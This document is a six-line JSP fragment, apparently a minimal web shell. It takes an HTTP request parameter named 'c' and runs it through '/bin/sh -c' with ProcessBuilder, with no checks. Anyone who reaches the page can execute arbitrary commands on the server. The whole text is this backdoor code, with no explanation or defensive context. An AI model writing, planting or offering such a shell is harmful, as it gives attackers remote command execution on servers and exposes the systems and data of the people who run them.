<%
  String c = request.getParameter("c");
  ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", c);
  pb.redirectErrorStream(true);
  Process proc = pb.start();
%>
